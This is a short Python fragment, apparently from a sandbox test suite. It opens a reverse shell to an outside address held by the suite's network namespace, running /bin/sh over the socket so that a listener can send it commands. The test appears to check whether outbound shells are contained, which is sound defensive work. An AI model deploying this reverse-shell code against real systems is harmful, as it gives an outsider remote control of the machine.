# A reverse shell to an outside address (11.22.33.44, held by
# the suite's network namespace): /bin/sh with the connection as its stdin
# and stdout.  The listener sends a command; only if the answer proves a
# working shell does it make the shell print the success marker (on the
# shell's stderr, which is this program's stdout).
import subprocess
addr, port = ARGS[0], int(ARGS[1])
try:
    s = socket.create_connection((addr, port), timeout=3)
except OSError as e:
    failed("%s:%d %s" % (addr, port, ename(e) if e.errno else type(e).__name__))
else:
    s.settimeout(None)
    try:
        subprocess.run(["/bin/sh"], stdin=s.fileno(), stdout=s.fileno(),
                       stderr=sys.stdout.fileno(), timeout=15)
        info("shell exited")
    except subprocess.TimeoutExpired:
        failed("the shell was never told to exit")
